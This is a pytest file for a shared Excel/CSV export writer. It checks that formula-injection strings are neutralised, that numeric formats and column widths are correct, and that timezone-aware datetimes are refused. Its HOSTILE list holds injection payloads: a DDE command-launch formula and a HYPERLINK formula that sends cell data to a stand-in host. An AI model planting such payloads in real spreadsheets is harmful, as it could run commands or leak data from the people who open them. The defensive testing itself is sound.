"""The shared xlsx/CSV writer: hostile text stays text, numbers stay numbers, widths fit."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from chainboard_analytics.exports import (
    Col,
    Workbook,
    csv_bytes,
    display,
    neutralise,
    text_width,
)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?d="&C2,"点击查看")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [
    Col("企业名称"),
    Col("成立日期", "date"),
    Col("总投资(万元)", "wan"),
    Col("企业数", "int"),
    Col("完成率", "pct"),
    Col("亩均税收(万元/亩)", "num2"),
]


def _book(constant_memory: bool, tmp_path) -> openpyxl.Workbook:  # type: ignore[no-untyped-def]
    path = tmp_path / "t.xlsx"
    with Workbook(path, constant_memory=constant_memory) as book:
        sheet = book.sheet("表", COLUMNS, freeze_cols=1)
        for name in HOSTILE:
            sheet.row([name, dt.date(2019, 12, 31), Decimal("123456789.125"), 3, 0.5, 111.114094])
        sheet.row(["合计", None, 1.0, 21, None, None], total=True)
        sheet.note("注：测试备注。")
    return openpyxl.load_workbook(path)


@pytest.mark.parametrize("constant_memory", [False, True])
def test_hostile_text_stays_text_and_numbers_keep_formats(tmp_path, constant_memory):
    ws = _book(constant_memory, tmp_path)["表"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [ws.cell(row=i, column=1).value for i in range(2, 2 + len(HOSTILE))]
    assert names == [h.replace("\r", "_x000D_") for h in HOSTILE]  # OOXML escape of CR
    row = [ws.cell(row=2, column=j) for j in range(1, 7)]
    assert row[1].value == dt.datetime(2019, 12, 31) and row[1].number_format == "yyyy-mm-dd"
    assert row[2].data_type == "n" and row[2].number_format == "#,##0.00"
    assert row[3].value == 3 and row[3].number_format == "#,##0"
    assert row[4].number_format == "0.0%" and row[5].number_format == "#,##0.00"
    # header frozen and filtered (data rows only), printed on every page, A4 landscape to width
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == f"A1:F{1 + len(HOSTILE)}"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0  # 1 is default


def test_widths_fit_the_content(tmp_path):
    ws = _book(False, tmp_path)["表"]
    width = {k: v.width for k, v in ws.column_dimensions.items()}
    # the widest name (CJK counts 2), the date, the amount as shown with separators
    assert width["A"] >= text_width(HOSTILE[1])
    assert width["B"] >= len("2019-12-31") + 1
    assert width["C"] >= len("123,456,789.13") + 1
    assert width["F"] >= text_width("亩均税收(万元/亩)")  # header fits too


def test_text_width_counts_cjk_double():
    assert text_width("abc") == 3 and text_width("企业") == 4 and text_width("ab\n企业名称") == 8
    assert display(0.1234, "pct") == "12.3%" and display(1234.5, "wan") == "1,234.50"


def test_csv_neutralises_text_but_not_numbers():
    data = csv_bytes(
        [Col("名称"), Col("得分", "num2"), Col("数", "int"), Col("值", "auto")],
        [[name, -1.5, -2, -3.25] for name in HOSTILE] + [["正常", None, 0, "x"]],
    )
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["名称", "得分", "数", "值"]
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[1][1:] == ["-1.50", "-2", "-3.25"]  # numbers are not prefixed
    assert rows[-1] == ["正常", "", "0", "x"]
    assert neutralise("普通文本") == "普通文本" and neutralise("") == ""


def test_aware_datetimes_are_refused(tmp_path):
    with Workbook(tmp_path / "x.xlsx") as book:
        sheet = book.sheet("表", [Col("时间", "datetime")])
        with pytest.raises(ValueError, match="local time"):
            sheet.row([dt.datetime(2026, 1, 1, tzinfo=dt.UTC)])


def test_long_text_wraps_within_a_capped_width(tmp_path):
    path = tmp_path / "long.xlsx"
    long_text = "经营范围" * 40
    with Workbook(path) as book:
        book.sheet("表", [Col("经营范围"), Col("值", "auto")]).row([long_text, long_text])
    ws = openpyxl.load_workbook(path)["表"]
    assert ws["A2"].value == long_text and ws["A2"].alignment.wrap_text
    assert ws["B2"].alignment.wrap_text
    # 50 characters × 1.15 + 2 (+ xlsxwriter's padding), one <col> for A:B (same width)
    assert ws.column_dimensions["A"].width < 62 and ws.column_dimensions["A"].max == 2
